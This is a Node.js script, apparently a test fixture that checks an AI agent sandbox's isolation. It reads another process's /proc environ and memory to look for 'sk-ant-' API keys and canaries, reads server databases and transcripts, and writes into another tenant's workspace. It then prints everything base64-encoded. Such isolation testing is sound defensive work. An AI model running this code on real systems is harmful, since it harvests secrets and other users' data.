// A hostile task: run by the agent's Bash tool inside the sandbox, it tries to reach the server,
// its data and another tenant, and prints everything it finds base64-encoded (so no text
// redaction can hide a leak from the test). Usage: node attack.mjs targets.json
import { Buffer } from 'node:buffer';
import { execFileSync } from 'node:child_process';
import { closeSync, openSync, readdirSync, readFileSync, readSync, statSync, writeFileSync } from 'node:fs';
import process from 'node:process';

const targets = JSON.parse(readFileSync(process.argv[2], 'utf8'));
const findings = {};
const PATTERNS = ['canary', 'sk-ant-'];

function attempt(name, fn) {
  try {
    findings[name] = { ok: true, value: fn() };
  } catch (error) {
    findings[name] = { ok: false, error: String(error.code ?? error.message).slice(0, 200) };
  }
}
const read = (file) => readFileSync(file).toString('latin1').slice(0, 1500);
const list = (dir) => readdirSync(dir);

/** Every match of the patterns in a process's readable memory, with what surrounds it. */
function scanMemory(pid) {
  const hits = [];
  const maps = readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n').filter(Boolean);
  const fd = openSync(`/proc/${pid}/mem`, 'r');
  try {
    for (const line of maps) {
      const [range, perms] = line.split(' ');
      if (!perms.startsWith('r')) continue;
      const [start, end] = range.split('-').map((h) => BigInt(`0x${h}`));
      const size = Number(end - start);
      if (size > 512 * 1024 * 1024) continue;
      const buffer = Buffer.alloc(Math.min(size, 64 * 1024 * 1024));
      for (let offset = 0; offset < size; offset += buffer.length) {
        let n = 0;
        try {
          n = readSync(fd, buffer, 0, Math.min(buffer.length, size - offset), start + BigInt(offset));
        } catch {
          break;
        }
        const text = buffer.subarray(0, n).toString('latin1');
        for (const pattern of PATTERNS) {
          for (let at = text.indexOf(pattern); at !== -1 && hits.length < 8; at = text.indexOf(pattern, at + 1)) {
            hits.push(text.slice(Math.max(0, at - 40), at + 120));
          }
        }
      }
    }
  } finally {
    closeSync(fd);
  }
  return hits;
}

const server = targets.serverPid;
attempt('whoami', () => execFileSync('id', { encoding: 'utf8' }));
attempt('server_environ', () => read(`/proc/${server}/environ`));
attempt('server_cmdline', () => read(`/proc/${server}/cmdline`));
attempt('server_status', () => read(`/proc/${server}/status`));
attempt('server_fds', () => list(`/proc/${server}/fd`));
attempt('server_mem', () => scanMemory(server));
attempt('kill0_server', () => {
  process.kill(server, 0);
  return 'signalled';
});
attempt('kill0_shell', () => execFileSync('sh', ['-c', `kill -0 ${server} 2>&1; echo rc=$?`], { encoding: 'utf8' }));
attempt('data_dir', () => list(targets.dataDir));
attempt('sqlite_file', () => read(targets.sqliteFile));
attempt('transcripts_db', () => read(`${targets.dataDir}/transcripts.db`));
attempt('agent_homes', () => list(`${targets.dataDir}/agent-homes`));
attempt('server_cwd', () => list(targets.serverCwd));
attempt('other_workspace_list', () => list(targets.otherWorkspaceRoot));
attempt('other_workspace_file', () => read(targets.otherSecretFile));
attempt('other_workspace_write', () => {
  writeFileSync(`${targets.otherWorkspaceRoot}/pwned.txt`, 'pwned');
  return 'written';
});
attempt('own_home', () => list(process.env.HOME));
attempt('own_config_tree', () =>
  execFileSync('find', [process.env.CLAUDE_CONFIG_DIR ?? process.env.HOME, '-maxdepth', '4'], { encoding: 'utf8' }).slice(0, 2000),
);
attempt('root_dir', () => list('/'));

// Every process this task can see: their command lines, environments and memory.
const processes = {};
for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
  const entry = {};
  for (const what of ['cmdline', 'environ']) {
    try {
      entry[what] = read(`/proc/${pid}/${what}`);
    } catch (error) {
      entry[what] = `!${error.code}`;
    }
  }
  try {
    entry.uid = statSync(`/proc/${pid}`).uid;
    entry.mem = scanMemory(pid);
  } catch (error) {
    entry.mem = `!${error.code}`;
  }
  processes[pid] = entry;
}
findings.processes = processes;

const encoded = Buffer.from(JSON.stringify(findings)).toString('base64');
// One marker line the test can find; the payload is base64, as an exfiltrating attacker would send it.
process.stdout.write(`ATTACK-FINDINGS:${encoded}:END\n`);
writeFileSync('attack-findings.b64', encoded);
